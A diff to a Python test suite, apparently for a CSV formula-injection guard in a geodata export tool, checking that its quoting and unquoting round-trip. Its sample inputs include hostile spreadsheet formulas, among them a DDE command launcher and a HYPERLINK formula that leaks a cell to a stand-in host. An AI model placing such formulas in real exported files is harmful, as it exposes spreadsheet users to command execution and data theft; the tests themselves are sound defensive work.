@@ -9,6 +9,7 @@ from __future__ import annotations
 
 import csv
 import io
+import re
 import zipfile
 from pathlib import Path
 
@@ -18,7 +19,6 @@ from hypothesis import given, settings
 from hypothesis import strategies as st
 from shapely.geometry import Point
 
-from geo._csvsafe import TRIGGERS, neutralise, restore
 from geo.edits import open_store
 from geo.edits._files import read_changes, write_corrections
 from geo.export import export_bytes
@@ -31,12 +31,18 @@ FORMULAS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://example.invalid/?leak="&A1
             "@SUM(A1)", "\t=1+1", "-2+3", "\r=1", "＝1+1", "'=already quoted", "''+twice"]
 
 
+TRIGGERS = "=+-@\t\r\n＝＋－＠"  # OWASP's, and the precautions of geo._csvsafe
+_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")
+
+
 def _dangerous(cell: str) -> bool:
     """Whether a spreadsheet would read this cell as a formula (a plain number is not one)."""
-    return bool(cell) and cell[0] in TRIGGERS and neutralise(cell) != cell
+    return bool(cell) and cell[0] in TRIGGERS and not _NUMBER.fullmatch(cell)
 
 
 def test_the_rule_quotes_formulas_and_leaves_numbers_and_plain_text_alone() -> None:
+    from geo._csvsafe import neutralise, restore
+
     assert [neutralise(c) for c in ("=1+1", "+1+1", "-x", "@A1", "\tx", "'=x", "-106.5", "+3", "1e-3", "綦江", "")] \
         == ["'=1+1", "'+1+1", "'-x", "'@A1", "'\tx", "''=x", "-106.5", "+3", "1e-3", "綦江", ""]
     assert neutralise(None) is None and neutralise(12) == 12
@@ -47,6 +53,8 @@ def test_the_rule_quotes_formulas_and_leaves_numbers_and_plain_text_alone() -> N
 @given(st.text(alphabet=st.sampled_from(list(TRIGGERS) + ["'", "a", "1", ".", "e", " ", "綦"]), max_size=8)
        | st.text(max_size=30))
 def test_restore_undoes_neutralise_for_every_text(text: str) -> None:
+    from geo._csvsafe import neutralise, restore
+
     written = neutralise(text)
     assert restore(written) == text
     assert not _dangerous(written)
